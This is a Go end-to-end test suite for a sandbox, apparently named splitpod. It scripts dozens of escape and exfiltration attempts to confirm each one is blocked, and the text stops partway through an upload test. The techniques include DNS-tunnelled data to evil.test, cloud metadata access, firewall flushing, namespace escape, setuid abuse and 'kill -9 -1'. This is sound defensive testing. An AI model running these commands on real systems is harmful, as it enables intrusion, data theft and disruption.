package e2e_test

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/splitpod/splitpod/test/need"
	"github.com/splitpod/splitpod/test/world"
)

// The attacks of a workload on its sandbox, one case each, named by area and number:
// A around the fence, D on identity, E on files, calls and processes, G by SSH. Every
// case is judged twice: by what the attacker sees, and by what must hold after any
// attack (see judge). README.md lists what is tried elsewhere, and what does not apply.

// metadata is where clouds hand out credentials.
const metadata = "169.254.169.254"

// canary counts everything that gets out.
type canary struct{ hits atomic.Int64 }

func (c *canary) stream(t *testing.T, addr string) {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	must(t, err)
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.hits.Add(1)
			conn.Close()
		}
	}()
}

func (c *canary) packets(t *testing.T, addr string) {
	t.Helper()
	l, err := net.ListenPacket("udp", addr)
	must(t, err)
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			if _, _, err := l.ReadFrom(make([]byte, 2048)); err != nil {
				return
			}
			c.hits.Add(1)
		}
	}()
}

// arena is a sandbox that is attacked again and again.
type arena struct {
	*pair
	canary      canary
	files       [2]int // descriptors of the daemons before
	reached     int64  // requests that origins answered before the attack
	records     [2]int // what the daemons had recorded before it
	attacker    string // the program in testdata/attack
	foreign     string // the same for another ABI of this machine; empty: none
	readOnlyDir string
	writableDir string
	tool        string // a copy of curl that the workload may write to
	link        string // a link the policy names, in a directory the workload may write to
}

// policyOfArena extends policyText by rules that attacks are after.
func (a *arena) policyOfArena() string {
	return strings.Replace(policyText, "network_policies:\n", fmt.Sprintf(`filesystem_policy: {read_only: [%s], read_write: [%s]}
network_policies:
  tool:
    endpoints: [{host: six.demo.test, port: 443}]
    binaries: [{path: %s}, {path: %s}]
`, a.readOnlyDir, a.writableDir, a.tool, a.link), 1)
}

func newArena(t *testing.T) *arena {
	t.Helper()
	for _, program := range []string{"python3", "curl", "nc", "gcc"} {
		need.Program(t, program)
	}
	a := &arena{pair: newPair(t, policyText)}
	// Not below /tmp, which every workload may write to.
	files, err := os.MkdirTemp("/srv", "splitpod-attacks-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(files) })
	must(t, os.Chmod(files, 0o755))
	a.readOnlyDir, a.writableDir = files+"/ro", files+"/rw"
	a.tool, a.link = a.writableDir+"/tool", a.writableDir+"/link"
	a.makeFiles(t)
	a.policy(a.policyOfArena())
	if out, err := exec.Command("ip", "addr", "replace", metadata+"/32", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("ip", "addr", "del", metadata+"/32", "dev", "lo").Run() })
	for _, port := range []string{"3128", "9999", "853", "22", "6443"} {
		a.canary.stream(t, net.JoinHostPort(world.Address, port))
		a.canary.stream(t, net.JoinHostPort(world.Address6, port))
	}
	a.canary.stream(t, net.JoinHostPort(metadata, "80"))
	for _, port := range []string{"53", "123", "443", "4789", "5353", "137"} {
		a.canary.packets(t, net.JoinHostPort(world.Address, port))
	}
	a.canary.stream(t, net.JoinHostPort(world.Address, "53"))
	a.startNetwork("--admin-listen", world.Address+":9901")
	a.startProcessWith([]string{"--admin-listen", world.Address + ":9902"}, "sh", "-c", "echo ready; sleep "+lifetime)
	eventually(t, "the workload", func() bool { return strings.Contains(a.process.out.String(), "ready") })
	for _, socket := range []string{"exec.sock", "ssh.sock"} {
		eventually(t, socket, func() bool { _, err := os.Stat(a.dir + "/run/" + socket); return err == nil })
	}
	a.plain(t)
	a.files = a.openFiles(t)
	return a
}

// makeFiles are what the workload finds on its disk.
func (a *arena) makeFiles(t *testing.T) {
	t.Helper()
	for _, dir := range []string{a.readOnlyDir, a.readOnlyDir + "/sub", a.writableDir} {
		must(t, os.Mkdir(dir, 0o777))
		must(t, os.Chmod(dir, 0o777))
	}
	must(t, os.WriteFile(a.readOnlyDir+"/file", []byte("text"), 0o666))
	must(t, os.Chmod(a.readOnlyDir+"/file", 0o666))
	curl, err := os.ReadFile("/usr/bin/curl")
	must(t, err)
	must(t, os.WriteFile(a.tool, curl, 0o755))
	must(t, os.Symlink("/usr/bin/curl", a.link))
	bash, err := os.ReadFile("/bin/bash")
	must(t, err)
	must(t, os.WriteFile(a.readOnlyDir+"/suid", bash, 0o755))
	must(t, os.Chmod(a.readOnlyDir+"/suid", 0o755|os.ModeSetuid|os.ModeSetgid))
	a.attacker = a.readOnlyDir + "/attack"
	build(t, a.attacker, "./testdata/attack", runtime.GOARCH)
	if runtime.GOARCH == "amd64" {
		a.foreign = a.readOnlyDir + "/foreign"
		build(t, a.foreign, "./testdata/foreign", "386")
	}
	must(t, exec.Command("chown", "-h", "-R", "1000:1000", a.writableDir).Run())
}

func build(t *testing.T, to, source, arch string) {
	t.Helper()
	cmd := exec.Command("go", "build", "-o", to, source)
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOARCH="+arch)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}

// run runs a script in the sandbox.
func (a *arena) run(script string) (code int, out string) {
	cmd := exec.Command("timeout", "-k", "5", "170", a.supervisor(), "exec", "--run-dir", a.dir+"/run", "--", "bash", "-c", script)
	var b bytes.Buffer
	cmd.Stdout, cmd.Stderr = &b, &b
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "TERM=dumb"}
	_ = cmd.Run()
	return cmd.ProcessState.ExitCode(), b.String()
}

func (a *arena) supervisor() string { return binary(a.t, "supervisor-process") }

// plain is a request that is always allowed.
func (a *arena) plain(t *testing.T) {
	t.Helper()
	if code, out := a.run(strings.Join(curl("https://api.demo.test/"), " ")); code != 0 || !strings.Contains(out, "hello from api.demo.test") {
		t.Fatalf("a plain request does not work any more: exit code %d, %s", code, out)
	}
}

func (a *arena) openFiles(t *testing.T) [2]int {
	entries, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", a.process.cmd.Process.Pid))
	must(t, err)
	return [2]int{a.descriptors(), len(entries)}
}

// begin remembers what there was before an attack.
func (a *arena) begin() {
	a.reached = origins.Hits.Load()
	a.records = [2]int{len(a.network.out.String()), len(a.processRecords())}
}

// recorded reports what both daemons recorded since begin.
func (a *arena) recorded() (network, process string) {
	return a.network.out.String()[a.records[0]:], a.processRecords()[a.records[1]:]
}

// lifetime is the workload's, in seconds, and tells it from those of other runs.
var lifetime = fmt.Sprintf("9%d", 10_000_000+os.Getpid())

// judge checks what must hold after every attack: nothing got out, both daemons and
// the workload live, they gave back what they took, and a plain request works.
func (a *arena) judge(t *testing.T, requests int64) {
	t.Helper()
	if n := a.canary.hits.Swap(0); n != 0 {
		t.Errorf("the canary was reached %d times", n)
	}
	if n := origins.Hits.Load() - a.reached; n != requests {
		t.Errorf("origins answered %d requests, want %d", n, requests)
	}
	for _, d := range []*daemon{a.network, a.process} {
		select {
		case <-d.ended:
			t.Fatalf("%s ended", d.cmd.Args[len(d.cmd.Args)-1])
		default:
		}
	}
	if n := countProcesses(t, "sleep", lifetime); n != 1 {
		t.Fatalf("%d workloads are alive", n)
	}
	eventually(t, fmt.Sprintf("at most %v descriptors of the daemons, and a few", a.files), func() bool {
		now := a.openFiles(t)
		return now[0] <= a.files[0]+8 && now[1] <= a.files[1]+8
	})
	a.plain(t)
}

// python makes a program of lines. A line "refused(f)" wants an error that is no
// time-out.
func python(lines string) string {
	return "python3 - <<'END'\n" + `import socket, os, errno, time, subprocess, struct
CANARY, CANARY6 = "` + world.Address + `", "` + world.Address6 + `"
PROXY = ("127.0.0.1", 3128)
def refused(f, what=""):
    try:
        r = f()
        print("bad: not refused", what, r)
    except socket.timeout:
        print("bad: timed out", what)
    except OSError: pass
def tcp(host, port=9999, family=None):
    s = socket.socket(family or (socket.AF_INET6 if ":" in host else socket.AF_INET)); s.settimeout(60); s.connect((host, port)); return s
def send(host, port, kind=socket.SOCK_DGRAM, proto=0, data=b"secret"):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind, proto); s.settimeout(60)
    s.connect((host, port)); s.send(data); time.sleep(0.02); s.send(data); return s.recv(10)
def connect(target, src=None):
    s = socket.socket(); s.settimeout(60)
    if src:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", src))
    s.connect(PROXY); s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode()); return s
def status(target, src=None):
    return connect(target, src).recv(4096).split(b" ")[1].decode()
` + lines + "\nprint('end')\nEND"
}

// attack is one case.
type attack struct {
	id, what string
	script   string
	wants    []string // in its output
	lacks    []string // besides "bad"
	requests int64    // that an origin may answer
	record   string   // part of a record that must be there
}

const bypassed = `"reason":"bypass"`

func (a *arena) attacks() []attack {
	noProxy := "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy "
	tool := func(name string, args ...string) string {
		return strings.Join(append([]string{a.attacker, name}, args...), " ")
	}
	return []attack{
		{"A1", "no proxy in the environment", noProxy + "curl -sS -m 30 https://" + world.Address + ":9999/; echo code $?", []string{"code 7"}, nil, 0, bypassed},
		{"A2", "a client told to use none", "curl -sS -m 30 --noproxy '*' https://" + world.Address + ":9999/; echo code $?", []string{"code 7"}, nil, 0, bypassed},
		{"A4", "UDP", python(`for p in 53, 443, 123, 4789, 5353: refused(lambda: send(CANARY, p), p)`), []string{"end"}, nil, 0, bypassed},
		{"A4", "UDP by nc", "echo x | nc -u -w1 " + world.Address + " 53; echo x | nc -u -w1 " + world.Address + " 4789; echo end", []string{"end"}, nil, 0, bypassed},
		{"A5", "QUIC", python(`refused(lambda: send(CANARY, 443, data=b"\xc0\0\0\0\1" + bytes(1195)))`), []string{"end"}, nil, 0, bypassed},
		{"A6", "ping without privilege", python(`refused(lambda: send(CANARY, 0, socket.SOCK_DGRAM, 1, b"\x08\0\0\0\0\0\0\0secret"))
refused(lambda: send(CANARY6, 0, socket.SOCK_DGRAM, 58, b"\x80\0\0\0\0\0\0\0secret"))`), []string{"end"}, nil, 0, ""},
		{"A6", "ping", "ping -c1 -W1 " + world.Address + " && echo bad; echo end", []string{"end"}, nil, 0, ""},
		{"A7", "SCTP", python(`refused(lambda: send(CANARY, 443, socket.SOCK_STREAM, 132)); refused(lambda: send(CANARY, 443, socket.SOCK_SEQPACKET, 132))`), []string{"end"}, nil, 0, ""},
		{"A8", "other protocols", python(`for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, 6:
    for proto in 136, 33, 47, 41, 2, 50, 4, 253: refused(lambda: send(CANARY, 443, kind, proto), proto)`), []string{"end"}, nil, 0, ""},
		{"A10", "TCP fast open", python(`refused(lambda: socket.socket().sendto(b"x", 0x20000000, (CANARY, 9999)))`), []string{"end"}, nil, 0, bypassed},
		{"A11", "raw and packet sockets", python(`refused(lambda: socket.socket(2, 3, 255)); refused(lambda: socket.socket(17, 3)); refused(lambda: socket.socket(17, 2))`), []string{"end"}, nil, 0, ""},
		{"A13", "a mapped address", python(`refused(lambda: tcp("::ffff:" + CANARY))`), []string{"end"}, nil, 0, bypassed},
		{"A14", "addresses that hold others", python(`for h in "64:ff9b::0a4d:1", "2002:0a4d:1::1", "2001:0:a4d:1::1", CANARY6, "::" + CANARY: refused(lambda: tcp(h), h)`), []string{"end"}, nil, 0, bypassed},
		{"A15", "the proxy's port elsewhere", python(`refused(lambda: tcp(CANARY, 3128)); refused(lambda: tcp(CANARY6, 3128))`), []string{"end"}, nil, 0, bypassed},
		{"A15", "the proxy's port taken by another listener", python(`def take(host, option):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET); s.setsockopt(socket.SOL_SOCKET, option, 1); s.bind((host, 3128)); s.listen()
for host in "127.0.0.1", "0.0.0.0", "::1", "::":
    for option in socket.SO_REUSEADDR, socket.SO_REUSEPORT: refused(lambda: take(host, option), host)`), []string{"end"}, nil, 0, ""},
		{"A14", "a route of its own inside the packet", python(`def routed(to, through):
    s = socket.socket(); s.settimeout(60); s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(through) + b"\0"); s.connect((to, 9999))
refused(lambda: routed("127.0.0.1", CANARY)); refused(lambda: routed(CANARY, "127.0.0.1"))`), []string{"end"}, nil, 0, ""},
		{"A16", "namespaces of its own", "unshare -Urn sh -c 'nft flush ruleset; curl -m3 https://" + world.Address + ":9999/' && echo bad; echo end", []string{"end"}, nil, 0, ""},
		{"A17", "changing the network", `for c in "nft flush ruleset" "iptables -F" "ip route add default dev lo" "ip link set lo down" "ip addr add 10.0.0.1/8 dev lo" "ip link add d type dummy"; do $c 2>/dev/null && echo bad $c; done; echo end`, []string{"end"}, nil, 0, ""},
		{"A26", "a connection's ports again", python(`s = connect("api.demo.test:1"); port = s.getsockname()[1]; s.close()
def again():
    s = socket.socket(); s.settimeout(60); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", port)); s.connect((CANARY, 9999))
refused(again)`), []string{"end"}, nil, 0, ""},
		{"A26", "a listener that answers through the fence", python(`server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(); to = server.getsockname()
for i in range(20000):
    s = socket.socket(); s.setblocking(False); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.8", 40001))
    try: s.connect(to)
    except BlockingIOError: pass
    s.close()
tcp(*to); print("listens")`), []string{"listens\nend"}, nil, 0, "an answer to a connection"},
		{"A28", "the daemons' own listeners", python(`for p in 9901, 9902: refused(lambda: tcp(CANARY, p), p); refused(lambda: tcp("127.0.0.1", p), p)
for p in 9901, 9902: print(status("%s:%d" % (CANARY, p)))`), []string{"403\n403\nend"}, []string{"200"}, 0, "policy_denied"},
		{"A29", "the cluster", python(`for t in "kubernetes.default.svc:443", "kubernetes.default.svc.cluster.local:443", "10.96.0.1:443", CANARY + ":6443", "10.0.0.1:10250", "localhost:3128", "127.0.0.1:6443", "[::1]:6443", "` + metadata + `:80": print(t, status(t))`),
			[]string{"end"}, []string{" 200", " 502", " 504"}, 0, "denied"},
		{"A31", "names as messages", python(`import secrets
q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\x08" + secrets.token_hex(4).encode() + b"\4evil\4test\0\0\x10\0\1"
refused(lambda: send(CANARY, 53, data=q)); refused(lambda: tcp(CANARY, 53).send(struct.pack("!H", len(q)) + q))
refused(lambda: socket.getaddrinfo(secrets.token_hex(8) + ".evil.test", 80))`), []string{"end"}, nil, 0, bypassed},
		{"A32", "names as messages, through the proxy", "for i in 1 2 3; do curl -s -o /dev/null -w '%{http_code}\\n' -x http://127.0.0.1:3128 http://secret$i.evil.test/; done; " + python(`print(status("secret.evil.test:443"))`), []string{"403\n403\n403\n403\nend"}, nil, 0, "policy_denied"},
		{"A34", "other ways to ask for names", python(`refused(lambda: tcp(CANARY, 853)); refused(lambda: send(CANARY, 5353)); refused(lambda: send("224.0.0.251", 5353)); refused(lambda: send("224.0.0.252", 5355)); refused(lambda: send("ff02::fb", 5353))
def broadcast():
    s = socket.socket(2, 2); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"x", ("255.255.255.255", 137)); time.sleep(0.02); s.sendto(b"x", ("255.255.255.255", 137))
refused(broadcast)
for p in "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/var/run/nscd/socket", "/run/dbus/system_bus_socket": refused(lambda: socket.socket(socket.AF_UNIX).connect(p), p)`), []string{"end"}, nil, 0, bypassed},
		{"A35", "other sockets of this system", "find " + a.dir + " -type s 2>/dev/null; ls " + a.dir + "/run; " + python(`for p in "process.sock", "network.sock", "exec.sock", "ssh.sock", "handover.sock": refused(lambda: socket.socket(socket.AF_UNIX).connect("`+a.dir+`/run/" + p), p)
for p in "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/spire/agent.sock": refused(lambda: socket.socket(socket.AF_UNIX).connect(p), p)`), []string{"end"}, []string{".sock"}, 0, ""},
		{"A35", "sockets without a name in the file system", python(`for line in open("/proc/net/unix").read().splitlines()[1:]:
    f = line.split()
    if len(f) > 7 and f[7].startswith("@"): refused(lambda: socket.socket(socket.AF_UNIX).connect("\0" + f[7][1:]), f[7])`), []string{"end"}, nil, 0, ""},
		{"A37", "a socket to the host", python(`refused(lambda: socket.socket(40, 1).connect((2, 1024)))`), []string{"end"}, nil, 0, ""},
		{"A38 A39", "every family and netlink protocol", tool("families"), []string{"tried 27", "tried"}[1:], nil, 0, ""},
		{"A38", "what getifaddrs needs", python(`print(socket.if_nameindex())`), []string{"[(1, 'lo')]"}, nil, 0, ""},
		{"A40", "io_uring", tool("iouring"), []string{"tried 3"}, nil, 0, ""},
		{"A41", "another ABI's numbers", tool("abi"), []string{"tried"}, nil, 0, ""},
		{"A43", "init's namespaces", "nsenter -t 1 -n curl -m3 http://" + world.Address + ":9999/ && echo bad; cat /proc/1/ns/net 2>/dev/null && echo bad; echo end", []string{"end"}, nil, 0, ""},

		{"A43", "the owner of a namespace, asked of its file", python(`import fcntl, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def enter(namespace, ask):
    fd = fcntl.ioctl(os.open("/proc/self/ns/" + namespace, os.O_RDONLY), ask)
    if libc.setns(fd, 0) < 0: raise OSError(ctypes.get_errno(), "setns")
for namespace in "net", "pid", "mnt", "user":
    for ask in 0xb701, 0xb702: refused(lambda: enter(namespace, ask), namespace)`), []string{"end"}, nil, 0, ""},

		{"D1", "another program by a link with the name of an allowed one", "ln -s $(readlink -f /usr/bin/python3) " + a.writableDir + "/curl; " + strings.Replace(python(`print(status("api.demo.test:443"))`), "python3", a.writableDir+"/curl", 1), []string{"403"}, nil, 0, "python3"},
		{"D1", "a copy of an allowed one", "cp /usr/bin/curl " + a.writableDir + "/copy; " + a.writableDir + "/copy -sS https://api.demo.test/; echo code $?", []string{"code 56"}, nil, 0, a.writableDir + "/copy"},
		{"D2", "a link of the policy that is changed while it is used", "P=$(readlink -f /usr/bin/python3); for i in $(seq 15); do ln -sfn $P " + a.link + "; rm -f " + a.writableDir + "/up; " +
			a.link + ` -c 'import socket, sys; open(sys.argv[1], "w"); s=socket.create_connection(("127.0.0.1",3128)); s.sendall(b"CONNECT six.demo.test:443 HTTP/1.1\r\nHost: six.demo.test:443\r\n\r\n"); print(s.recv(99)[9:12])' ` +
			a.writableDir + "/up & until [ -e " + a.writableDir + "/up ]; do :; done; ln -sfn /usr/bin/curl " + a.link + "; wait; done; echo end", []string{"403", "end"}, []string{"200"}, 0, "policy_denied"},
		{"D8", "the loader as program", "L=$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -1); $L /usr/bin/curl -sS https://api.demo.test/; echo code $?", []string{"code 56"}, nil, 0, "ld-linux"},
		{"D8", "a path through /proc", "/proc/self/root/usr/bin/curl -sS https://api.demo.test/; " + strings.Replace(python(`print(status("api.demo.test:443"))`), "python3", "/proc/self/root/usr/bin/python3", 1), []string{"hello from", "403"}, nil, 1, "policy_denied"},
		{"D10 D11 E10 E11 E13", "calls that nobody needs", tool("always"), []string{"tried"}, nil, 0, ""},
		{"D10 D16", "another program's face", tool("identity"), []string{"tried"}, nil, 0, ""},
		{"D10", "the memory of a child", python(`p = subprocess.Popen(["sleep", "60"])
refused(lambda: open("/proc/%d/mem" % p.pid, "r+b")); refused(lambda: open("/proc/%d/mem" % p.pid, "wb")); p.kill()`), []string{"end"}, nil, 0, ""},
		{"D13", "the port of a connection that was allowed", "curl -sS --local-port 20123 https://api.demo.test/; " + python(`
for i in range(20):
    try: print(status("api.demo.test:443", 20123))
    except OSError as e: print(e.errno)`), []string{"hello from", "end"}, []string{"200"}, 1, ""},
		{"D16", "the name of a thread, argv[0]", python(`import ctypes; ctypes.CDLL(None).prctl(15, b"curl", 0, 0, 0); print(status("api.demo.test:443"))`) + "\nexec -a /usr/bin/curl " + python(`print(status("api.demo.test:443"))`), []string{"403\nend\n403"}, []string{"200"}, 0, "policy_denied"},
		{"D17", "connections that end before they are looked at", "for i in $(seq 60); do (exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT api.demo.test:443 HTTP/1.1\\r\\nHost: api.demo.test:443\\r\\n\\r\\n' >&3) & done; wait; echo end", []string{"end"}, nil, 0, ""},
		{"D19", "many sockets and processes", python(`import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
keep = [socket.socket() for _ in range(900)]; ps = [subprocess.Popen(["sleep", "60"]) for _ in range(150)]
print(status("other.demo.test:443"))
[p.kill() for p in ps]`), []string{"403"}, nil, 0, "policy_denied"},
		{"D23", "an allowed program that is rewritten", a.tool + " -sS https://six.demo.test/; cp " + a.tool + " " + a.writableDir + "/n; echo x >> " + a.writableDir + "/n; mv " + a.writableDir + "/n " + a.tool + "; " + a.tool + " -sS https://six.demo.test/; echo code $?", []string{"hello from", "code 56"}, nil, 1, a.tool},

		{"E1 E2", "writing where only reading is granted", tool("readonly", a.readOnlyDir, a.writableDir), []string{"tried 27"}, nil, 0, ""},
		{"E4", "typing into a terminal", "script -qec '" + a.attacker + " always' /dev/null", []string{"tried"}, nil, 0, ""},
		{"E7", "killing everybody", "(setsid sleep 60 &) ; kill -9 -1; echo end", []string{"end"}, nil, 0, ""},
		{"E8 E22", "init", tool("init"), []string{"tried"}, nil, 0, ""},
		{"E10 A43", "every namespace", tool("namespaces"), []string{"tried"}, nil, 0, ""},
		{"E14", "filters of its own", tool("filters"), []string{"tried 5"}, nil, 0, ""},
		{"E16", "set-user-id programs", a.readOnlyDir + "/suid -p -c 'id -u; id -g'; for c in 'su -c id root' 'sudo -n id' 'newgrp root' 'pkexec id' 'passwd -S root'; do $c </dev/null 2>/dev/null | grep -w 'uid=0' && echo bad $c; done; grep CapBnd /proc/self/status", []string{"1000\n1000\n", "CapBnd:\t0000000000000000"}, nil, 0, ""},
		{"E19", "orphans", python(`for i in range(500):
    p = os.fork()
    if p == 0:
        if os.fork() == 0: os._exit(0)
        os._exit(0)
    os.waitpid(p, 0)
def state(pid):
    try: return open("/proc/%s/stat" % pid).read().split()[2]
    except OSError: return "gone" # between the listing and the reading
for i in range(10000):
    n = [state(d) for d in os.listdir("/proc") if d.isdigit()].count("Z")
    if n == 0: break
    time.sleep(0.01)
print("zombies", n)`), []string{"zombies 0"}, nil, 0, ""},
		{"E20", "a forged log line", "echo 'splitpod tcp DST=1.2.3.4 DPT=1' > /dev/kmsg; dmesg && echo bad; echo end", []string{"end"}, nil, 0, ""},
		{"E23", "devices", tool("devices"), []string{"tried"}, nil, 0, ""},
		{"E25", "a program for another ABI", a.foreign + "; echo code $?", nil, []string{"it runs", "code 0"}, 0, ""},
	}
}

func TestAttacks(t *testing.T) {
	a := newArena(t)
	for _, tc := range a.attacks() {
		if tc.id == "E25" && a.foreign == "" {
			continue // this machine has one ABI
		}
		t.Run(tc.id+" "+tc.what, func(t *testing.T) {
			a.begin()
			_, out := a.run(tc.script)
			for _, want := range tc.wants {
				if !strings.Contains(out, want) {
					t.Errorf("the output lacks %q: %.3000s", want, out)
				}
			}
			for _, never := range append(tc.lacks, "bad") {
				if strings.Contains(out, never) {
					t.Errorf("the output has %q: %.3000s", never, out)
				}
			}
			if tc.record != "" {
				eventually(t, "a record with "+tc.record, func() bool {
					network, process := a.recorded()
					return strings.Contains(network, tc.record) && (tc.record != bypassed || strings.Contains(process, tc.record))
				})
			}
			a.judge(t, tc.requests)
		})
	}
	a.byOthers(t)
}

// byOthers are attacks that need more than a script in the sandbox.
func (a *arena) byOthers(t *testing.T) {
	for _, tc := range []struct {
		id, what string
		try      func(t *testing.T)
		requests int64
	}{
		{"A22", "connecting from the very first instruction", a.fromTheStart, 0},
		{"A23", "while the network daemon is gone", a.withoutNetworkDaemon, 0},
		{"A25", "a tunnel whose permission ends", a.revoked, 0},
		{"E31", "an image with tools of its own making", a.hostileTools, 0},
		{"G2", "many who only connect to SSH", a.halfOpen, 0},
		{"G7", "uploads to where they do not belong", a.uploads, 0},
		{"G8", "names that a shell would understand", a.metacharacters, 0},
	} {
		t.Run(tc.id+" "+tc.what, func(t *testing.T) {
			a.begin()
			tc.try(t)
			a.judge(t, tc.requests)
		})
	}
}

const tightLoop = `import socket, time
end = time.monotonic() + %s
while time.monotonic() < end:
    for to in ("` + world.Address + `", 9999), ("` + world.Address6 + `", 9999), ("` + metadata + `", 80):
        s = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET); s.settimeout(60)
        try: s.connect(to); print("bad")
        except socket.timeout: print("bad: timed out")
        except OSError: pass
        s.close()
print("end")`

// fromTheStart: another sandbox, whose workload does nothing else.
func (a *arena) fromTheStart(t *testing.T) {
	p := newPair(t, policyText)
	p.startProcess("python3", "-c", fmt.Sprintf(tightLoop, "1"))
	eventually(t, "the process daemon's socket", func() bool { _, err := os.Stat(p.dir + "/run/process.sock"); return err == nil })
	p.startNetwork()
	if code := p.process.wait(t); code != 0 || p.process.out.String() != "end\n" {
		t.Errorf("exit code %d, output %.500s", code, p.process.out)
	}
}

func (a *arena) withoutNetworkDaemon(t *testing.T) {
	done := make(chan string, 1)
	a.network.kill(syscall.SIGKILL)
	<-a.network.ended
	go func() {
		_, out := a.run("python3 -c '" + fmt.Sprintf(tightLoop, "1") + "'")
		done <- out
	}()
	if out := <-done; out != "end\n" {
		t.Errorf("output %.500s", out)
	}
	earlier := a.network
	a.startNetwork("--admin-listen", world.Address+":9901")
	_, _ = a.network.out.Write([]byte(earlier.out.String()))
}

func (a *arena) revoked(t *testing.T) {
	defer a.policy(a.policyOfArena())
	var wg sync.WaitGroup
	var out string
	wg.Go(func() {
		_, out = a.run("curl -sS -m 300 telnet://api.demo.test:443 < <(sleep 400 2>/dev/null >/dev/null); echo ended $?; kill $!")
	})
	eventually(t, "the tunnel", func() bool { return countConnections(t, world.Address+":443") > 0 })
	a.policy(strings.ReplaceAll(a.policyOfArena(), "api.demo.test", "elsewhere.demo.test"))
	wg.Wait()
	if !strings.Contains(out, "ended") || strings.Contains(out, "ended 28") { // curl's own limit
		t.Errorf("the tunnel lived on: %s", out)
	}
	a.policy(a.policyOfArena())
	eventually(t, "the old policy", func() bool {
		_, out := a.run(strings.Join(curl("https://api.demo.test/"), " "))
		return strings.Contains(out, "hello from")
	})
	a.reached = origins.Hits.Load()
}

// countConnections counts established connections of the world to an address.
func countConnections(t *testing.T, to string) int {
	t.Helper()
	out, err := exec.Command("ss", "-Htn", "state", "established", "dst", to).Output()
	must(t, err)
	return bytes.Count(out, []byte("\n"))
}

// hostileTools: everything the daemon could be tempted to execute or load is a trap.
func (a *arena) hostileTools(t *testing.T) {
	p := newPair(t, policyText)
	trap, marker := p.dir+"/trap", p.dir+"/run/trapped"
	must(t, os.WriteFile(trap, []byte("#!/bin/bash\necho $0 >> "+marker+"\n"), 0o755))
	var mounts []string
	for _, tool := range []string{"ip", "nft", "iptables", "nsenter", "unshare", "mount", "umount", "dmesg", "sftp-server", "getent", "ldconfig", "/usr/lib/openssh/sftp-server"} {
		path, err := exec.LookPath(tool)
		if tool == "mount" || tool == "umount" || err != nil {
			continue // the test itself mounts
		}
		mounts = append(mounts, "mount --bind "+trap+" "+path)
	}
	if len(mounts) < 4 {
		t.Fatalf("only %d tools could be replaced", len(mounts))
	}
	p.startNetwork()
	args := append(p.processArgs(nil), "sh", "-c", "echo ready; sleep 1000")
	p.process = start(t, append([]string{"unshare", "-m", "sh", "-c", "mount --make-rprivate / && " + strings.Join(mounts, " && ") + ` && exec "$@"`, "sh"}, args...)...)
	eventually(t, "the workload", func() bool { return strings.Contains(p.process.out.String(), "ready") })
	eventually(t, "the SSH socket", func() bool { _, err := os.Stat(p.dir + "/run/ssh.sock"); return err == nil })
	cmd := exec.Command("sftp", append(p.sshOptions(), "-b", "-", "sandbox")...)
	cmd.Stdin = strings.NewReader("ls /etc\n")
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + p.dir}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("sftp: %v: %s", err, out)
	}
	if text, err := os.ReadFile(marker); err == nil {
		t.Errorf("executed with privilege: %s", text)
	}
}

func (a *arena) halfOpen(t *testing.T) {
	var open []net.Conn
	for range 200 {
		c, err := net.Dial("unix", a.dir+"/run/ssh.sock")
		must(t, err)
		open = append(open, c)
	}
	eventually(t, "the limit of descriptors", func() bool { return a.openFiles(t)[1] < a.files[1]+100 })
	for _, c := range open {
		c.Close()
	}
	eventually(t, "SSH again", func() bool { out, err := a.ssh("echo in").Output(); return err == nil && string(out) == "in\n" })
}

func (a *arena) uploads(t *testing.T) {
	local := filepath.Join(a.dir, "upload")
	must(t, os.WriteFile(local, []byte("text"), 0o600))
	sftp := func(commands string) (string, error) {
		cmd := exec.Command("sftp", append(a.sshOptions(), "-b", "-", "sandbox")...)
		cmd.Stdin = strings.NewReader(commands)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + a.dir}
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	for what, commands := range map[string]string{
		"an absolute path":       "put " + local + " /usr/x",
		"a read-only directory":  "put " + local + " " + a.readOnlyDir + "/x",
		"dots":                   "put " + local + " " + a.writableDir + "/../ro/x",
		"a link, then through":   "symlink " + a.readOnlyDir + "/file " + a.writableDir + "/through\nput " + local + " " + a.writableDir + "/through",
